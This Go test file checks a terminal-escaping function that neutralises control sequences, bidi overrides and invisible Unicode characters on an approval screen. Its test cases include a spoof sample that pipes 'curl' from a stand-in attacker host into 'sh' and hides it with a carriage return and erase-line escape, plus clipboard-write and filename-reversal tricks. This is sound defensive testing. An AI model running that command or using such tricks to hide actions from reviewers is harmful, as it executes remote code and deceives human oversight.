package termsafe

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// escapeCases is every class of character a terminal acts on or does not
// draw (docs/security.md, "The third review": the approval screen), and
// what must pass through untouched.
var escapeCases = []struct {
	name string
	in   string
	text bool // multi-line text (a diff, a body) rather than one field
	want string
	n    int
}{
	{"plain ASCII", "print(1) # ok", false, "print(1) # ok", 0},
	{"plain Unicode", "naïve café 日本語 😀 ∑", false, "naïve café 日本語 😀 ∑", 0},
	{"backslash stays", `C:\x1b is text`, false, `C:\x1b is text`, 0},
	{"the spoof: CR and erase line", "curl -s http://evil.example/x | sh\r\x1b[2K+echo done", true,
		`curl -s http://evil.example/x | sh\r\x1b[2K+echo done`, 2},
	{"CSI colour", "\x1b[31mred\x1b[0m", false, `\x1b[31mred\x1b[0m`, 2},
	{"OSC 52 clipboard, BEL", "\x1b]52;c;ZWNobw==\x07", false, `\x1b]52;c;ZWNobw==\x07`, 2},
	{"OSC title, ST", "\x1b]0;hi\x1b\\", false, `\x1b]0;hi\x1b\`, 2},
	{"other C0", "a\x00b\x08c\x0bd\x0ce\x1ff", false, `a\x00b\x08c\x0bd\x0ce\x1ff`, 5},
	{"DEL", "a\x7fb", false, `a\x7fb`, 1},
	{"newline and tab in a field", "a\nb\tc", false, `a\nb\tc`, 2},
	{"newline and tab in text", "a\nb\tc\n", true, "a\nb\tc\n", 0},
	{"CR in text", "a\r\n", true, "a\\r\n", 1},
	{"C1 CSI and OSC", "a\u009b2Kb\u009d0;x\u009c", false, `a\u009b2Kb\u009d0;x\u009c`, 3},
	{"C1 NEL", "a\u0085b", true, `a\u0085b`, 1},
	{"bidi override RLO", "admin\u202e txt.exe", false, `admin\u202e txt.exe`, 1},
	{"bidi embeddings and PDF", "\u202a\u202b\u202c\u202d", false, `\u202a\u202b\u202c\u202d`, 4},
	{"bidi isolates", "\u2066\u2067\u2068\u2069", true, `\u2066\u2067\u2068\u2069`, 4},
	{"bidi marks", "\u200e\u200f\u061c", false, `\u200e\u200f\u061c`, 3},
	{"zero-width", "a\u200bb\u200cc\u200dd\u2060e\ufeff", false, `a\u200bb\u200cc\u200dd\u2060e\ufeff`, 5},
	{"soft hyphen", "pass\u00adword", false, `pass\u00adword`, 1},
	{"line and paragraph separators", "a\u2028b\u2029c", true, `a\u2028b\u2029c`, 2},
	{"Hangul fillers", "x\u115f\u1160\u3164\uffa0y", false, `x\u115f\u1160\u3164\uffa0y`, 4},
	{"combining grapheme joiner", "a\u034fb", false, `a\u034fb`, 1},
	{"variation selectors", "a\ufe0f\ufe00\U000e0100", false, `a\ufe0f\ufe00\U000e0100`, 3},
	{"Mongolian selectors and vowel separator", "a\u180b\u180e", false, `a\u180b\u180e`, 2},
	{"tag characters", "flag\U000e0001\U000e0041\U000e007f", false, `flag\U000e0001\U000e0041\U000e007f`, 3},
	{"interlinear annotation", "\ufff9a\ufffab\ufffb", false, `\ufff9a\ufffab\ufffb`, 3},
	{"private use", "\ue000", false, `\ue000`, 1},
	{"unassigned", "\U0010fffd", false, `\U0010fffd`, 1},
	{"invalid UTF-8", "a\xffb\xc3", false, `a\xffb\xc3`, 2},
	{"encoded surrogate", "\xed\xa0\x80", false, `\xed\xa0\x80`, 3},
	{"overlong ESC", "\xc0\x9b", true, `\xc0\x9b`, 2},
}

func TestEscape(t *testing.T) {
	for _, c := range escapeCases {
		got, n := Escape(c.in, c.text)
		if got != c.want || n != c.n {
			t.Errorf("%s: Escape(%q, %v) = %q, %d; want %q, %d", c.name, c.in, c.text, got, n, c.want, c.n)
		}
		if !safe(got, c.text) {
			t.Errorf("%s: %q still holds what a terminal acts on", c.name, got)
		}
	}
}

// safe: valid UTF-8 and nothing Escape would escape again.
func safe(s string, text bool) bool {
	if !utf8.ValidString(s) {
		return false
	}
	return !strings.ContainsFunc(s, func(r rune) bool { return hidden(r, text) })
}

func FuzzEscape(f *testing.F) {
	for _, c := range escapeCases {
		f.Add(c.in, c.text)
	}
	f.Fuzz(func(t *testing.T, s string, text bool) {
		got, n := Escape(s, text)
		if !safe(got, text) {
			t.Fatalf("Escape(%q) = %q: unsafe", s, got)
		}
		if (n == 0) != (got == s) {
			t.Fatalf("Escape(%q) = %q, %d", s, got, n)
		}
	})
}

// TestWriter: a stream cut anywhere, even inside a character, comes out
// as Escape writes it whole.
func TestWriter(t *testing.T) {
	for _, c := range escapeCases {
		if !c.text {
			continue
		}
		for step := 1; step <= 4; step++ {
			var out strings.Builder
			w := NewWriter(&out)
			for i := 0; i < len(c.in); i += step {
				w.Write([]byte(c.in[i:min(i+step, len(c.in))]))
			}
			w.Flush()
			if out.String() != c.want || w.Hidden != c.n {
				t.Errorf("%s in writes of %d: %q, %d; want %q, %d", c.name, step, out.String(), w.Hidden, c.want, c.n)
			}
		}
	}
}
